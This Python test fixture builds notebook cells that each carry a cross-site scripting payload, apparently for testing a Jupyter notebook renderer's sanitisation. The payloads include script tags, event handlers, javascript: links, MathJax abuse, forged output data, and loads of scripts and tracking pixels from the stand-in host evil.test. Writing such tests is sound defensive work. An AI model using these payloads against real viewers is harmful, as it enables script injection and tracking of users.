"""What a student may put into a notebook to reach the browser of whoever opens it.

Each attack is one cell. ``alert`` shows that a script ran; a request to evil.test that
something was fetched.
"""

import base64
from typing import Any

from nbformat import NotebookNode, from_dict

__all__ = ["ATTACKS", "EVIL", "attack_cells"]

EVIL = "http://evil.test"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}/svg.png"/></svg>'
_HTML_IN_BASE64 = base64.b64encode(b"<script>alert(1)</script>").decode()

MARKDOWN = [
    # Elements that run.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    f'<script src="{EVIL}/a.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)</script> text",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "<script>\nalert(1)\n\nalert(2)</script>",
    '<div class="mathjax_ignore tex2jax_ignore"><script>alert(1)</script></div>',
    '<div class="mathjax_ignore tex2jax_ignore"><img src=x onerror=alert(1)></div>',
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    '<img """><img src=x onerror=alert(1)>"',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='animation:x' onanimationstart=alert(1)>x</div>"
    "<style>@keyframes x{from{color:red}to{color:blue}} div{animation:x 1s}</style>",
    '<p onmouseover="alert(1)" style="position:fixed;inset:0">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<a href='x' title='<img src=x onerror=alert(1)>'>x</a><img src=x onerror=alert(1)>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
    "$x<img src=y onerror=alert(1)>$ <img src=x onerror=alert(1)>",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}<img src=x onerror=alert(1)>",
    "$</span></div><img src=x onerror=alert(1)>$ <img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`<img src=x onerror=alert(1)>",
    # Frames and what they carry.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src=data:text/html;base64,{_HTML_IN_BASE64}></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<object data={EVIL}/object></object>",
    f"<embed src={EVIL}/embed>",
    # What is fetched without a script.
    f"![track]({EVIL}/pixel.png)",
    f"![track][id]\n\n[id]: {EVIL}/pixel.png",
    f"![track](//{EVIL.removeprefix('http://')}/pixel.png)",
    f"[![track]({EVIL}/pixel.png)](https://example.org)",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/pixel.png 1x'>",
    f"<picture><source srcset={EVIL}/pixel.png><img></picture>",
    f"<video poster={EVIL}/poster.png></video>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/a>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<style>body{{background:url({EVIL}/a.png)}}</style>",
    f"<p style='background:url({EVIL}/a.png)'>x</p>",
    f"<table background={EVIL}/a.png><tr><td>x</td></tr></table>",
    f"<input type=image src={EVIL}/a.png>",
    f"<svg><image href={EVIL}/a.png></svg>",
    f"<svg><use href='{EVIL}/a.svg#x'></use></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href={EVIL}/><img src=relative.png>",
    f"<form action={EVIL}/ id=f><input name=x></form><button form=f>x</button>",
    # Links that run when they are followed.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"[x](data:text/html;base64,{_HTML_IN_BASE64})",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:alert)",
    "[x](file:///etc/passwd)",
    '[x](javascript:alert(1) "title")',
    "[x][id]\n\n[id]: javascript:alert(1)",
    "[id]\n\n[id]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "[a](https://example.org [b](javascript:alert(1)))",
    "[a[b](javascript:alert(1))](https://example.org)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x"onerror="alert(1)](x)',
    '![x](x"onerror="alert(1))',
    "![x](x 'a\" onerror=\"alert(1)')",
    '[x](https://example.org"onmouseover="alert(1))',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    # What stops the page from being made at all.
    "![x](attachment:missing.png)",
    "> " * 2000 + "x",
    # Formulas that reach out or do not end.
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
    "\\\\(\\href{javascript:alert(1)}{x}\\\\)",
    "&#36;\\\\href{javascript:alert(1)}{x}&#36;",
    "$\\url{javascript:alert(1)}$",
    "$\\require{action}\\toggle{x}{y}\\endtoggle$",
    "$\\style{position:fixed;inset:0}{x}$",
    "$\\class{navbar}{x}$ $\\cssId{submission_id}{x}$",
    f"$\\bbox[background:url({EVIL}/a.png)]{{x}}$",
    f"$\\includegraphics{{{EVIL}/a.png}}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\newcommand{\\x}{\\href{javascript:alert(1)}}\\x{y}$",
    "$\\let\\sum\\href \\sum{javascript:alert(1)}{x}$",
    "$\\unicode[Arial;background:url(x)]{x61}$",
    "$\\rule{9999em}{9999em}$ $\\kern{-9999em}x$",
    "$\\text{$\\href{javascript:alert(1)}{x}$}$",
    "$x\\\n\\href{javascript:alert(1)}{y}$",
    "$\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
]
ATTACHMENTS = [
    {"x": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()}},
    {"x": {"text/html": _HTML_IN_BASE64}},
    {"x": {"image/png": '"><img src=y onerror=alert(1)>'}},
    {"x": {'png"onerror="alert(1)': "AAAA"}},
    {"x": {"image/png": _HTML_IN_BASE64}},
    {"x": None, "y": [], "z": {"image/png": 3}},
]
DATA = [
    {"text/html": "<script>alert(1)</script>"},
    {"text/html": f"<img src={EVIL}/html.png>", "text/plain": "x"},
    {"application/javascript": "alert(1)"},
    {"image/svg+xml": "<svg onload=alert(1)>"},
    {"image/svg+xml": _SVG},
    {"text/markdown": "<script>alert(1)</script>"},
    {"text/latex": "<script>alert(1)</script>$\\href{javascript:alert(1)}{x}$"},
    {"text/vnd.mermaid": "<img src=x onerror=alert(1)>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)//"}},
    {"application/pdf": "JVBERi0="},
    {"image/png": '"><script>alert(1)</script>'},
    {"image/jpeg": "x' onerror='alert(1)"},
    {"image/png": "AAAA", "text/html": "<script>alert(1)</script>"},
    {"image/gif": "R0lGODlhAQABAAAAACw="},
    {"text/plain": "<script>alert(1)</script>"},
    {'text/plain"><script>alert(1)</script>': "x"},
]


def _code(**parts: Any) -> dict[str, Any]:
    empty = {"execution_count": None, "metadata": {}, "outputs": [], "source": ""}
    return {"cell_type": "code", **empty, **parts}


def _display(data: Any, metadata: Any = None) -> dict[str, Any]:
    output = {"output_type": "display_data", "data": data, "metadata": metadata or {}}
    return _code(outputs=[output])


PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJg"
    "gg=="
)
BUILT = [
    _display({"image/png": PNG}, {"image/png": {"width": "1 onload=alert(1)"}}),
    _display({"image/png": PNG}, {"image/png": {"alt": '"onload="alert(1)'}}),
    _display({"image/png": PNG}, {"filenames": {"image/png": f"{EVIL}/name.png"}}),
    _display({"text/html": "<script>alert(1)</script>"}, {"text/html": {"isolated": True}}),
    _code(execution_count="<script>alert(1)</script>"),
    _code(source="<script>alert(1)</script>"),
    _code(source="%%html\n<script>alert(1)</script>"),
    _code(source="x = 1", metadata={"magics_language": "<script>alert(1)</script>"}),
    _code(metadata={"tags": ['"><script>alert(1)</script>']}),
    _code(metadata={"nbgrader": {"grade": True, "points": 1, "grade_id": '"><script>alert(1)'}}),
    _code(outputs=[{"output_type": "stream", "name": "<x>", "text": "<script>alert(1)</script>"}]),
    _code(outputs=[{"output_type": "stream", "name": "stdout", "text": "\x1b[38mx"}]),
    _code(outputs=[{"output_type": "stream", "name": "stdout", "text": ["\x1b]8;;x\x07", 3]}]),
    _code(
        outputs=[
            {
                "output_type": "error",
                "ename": "<script>alert(1)</script>",
                "evalue": "<script>alert(1)</script>",
                "traceback": ["\x1b[31m<script>alert(1)</script>", "\x1b[48;2;1mx"],
            }
        ]
    ),
    _code(outputs=[{"output_type": "<script>alert(1)</script>"}]),
    {"cell_type": "raw", "metadata": {}, "source": f"<img src={EVIL}/raw.png>"},
    {
        "cell_type": "raw",
        "metadata": {"raw_mimetype": "text/html"},
        "source": "<script>alert(1)</script>",
    },
    {"cell_type": "<script>alert(1)</script>", "metadata": {}, "source": "x"},
    {"cell_type": "markdown", "id": '"><script>alert(1)</script>', "metadata": {}, "source": "x"},
]
ATTACKS: list[dict[str, Any]] = [
    *({"cell_type": "markdown", "metadata": {}, "source": source} for source in MARKDOWN),
    *(
        {"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:x)", "attachments": a}
        for a in ATTACHMENTS
    ),
    *map(_display, DATA),
    *BUILT,
]


def attack_cells() -> list[NotebookNode]:
    """Return the attacks as cells, each with an id unless that is its attack."""
    return [from_dict({"id": f"attack-{n}", **cell}) for n, cell in enumerate(ATTACKS)]
